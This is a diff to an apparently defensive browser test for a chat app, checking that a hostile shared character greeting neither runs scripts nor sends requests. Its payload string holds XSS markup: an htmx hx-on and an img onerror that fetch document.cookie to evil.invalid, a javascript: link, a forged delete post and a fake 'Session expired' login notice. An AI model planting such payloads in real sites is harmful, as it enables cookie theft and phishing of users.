@@ -1,7 +1,7 @@
 """Attack (issue 29): account B shares a character whose greeting holds markup htmx would obey —
 a `data-hx-post` to A's private character's delete URL, a `data-hx-get` whose `hx-on` sends A's
-cookies to another host —, an `<img onerror>` and a `javascript:` link; the model's reply says
-the same. A opens a conversation with it and reloads: no request leaves for another host or the
+cookies to another host —, an `<img onerror>`, a `javascript:` link and the page's own classes of
+a floating notice; the model's reply says the same. A opens a conversation with it and reloads: no request leaves for another host or the
 delete URL, A's character is still there, and no script of the payload runs."""
 
 from __future__ import annotations
@@ -21,7 +21,8 @@ HOSTILE = ('<div data-hx-post="/library/characters/SECRET/delete" data-hx-trigge
            '"window.pwned=1;fetch(\'http://evil.invalid/?c=\'+document.cookie)">b</div>\n'
            '<img src=x onerror="window.pwned=1;fetch(\'http://evil.invalid/img\')">\n'
            '<a href="javascript:window.pwned=1" id="js-link">click me</a>\n'
-           '<span style="position:fixed;inset:0" onmouseover="window.pwned=1">c</span>')
+           '<span style="position:fixed;inset:0" onmouseover="window.pwned=1">c</span>\n'
+           '<div class="flash floating">Session expired: <a href="/">log in again</a></div>')
 
 
 def _account_make(page: Page, server: Server, username: str, password: str) -> None:
@@ -84,7 +85,8 @@ def test_a_hostile_greeting_and_reply_send_nothing_and_run_nothing(page: Page,
     assert page.evaluate("() => window.pwned") is None, "a payload script ran"
     leftovers = page.evaluate("""() => [...document.querySelectorAll('#messages .md *')]
         .flatMap(el => [...el.attributes].map(a => a.name + '=' + a.value))
-        .filter(a => /^(data-|hx-|on|style)/.test(a) || /javascript:/i.test(a))""")
+        .filter(a => /^(data-|hx-|on|style)/.test(a) || /javascript:/i.test(a)
+                     || /^class=/.test(a) && !/^class=(progress-badge|language-)/.test(a))""")
     assert leftovers == []
 
     elsewhere = [r.url for r in requests if not r.url.startswith(server.url)]
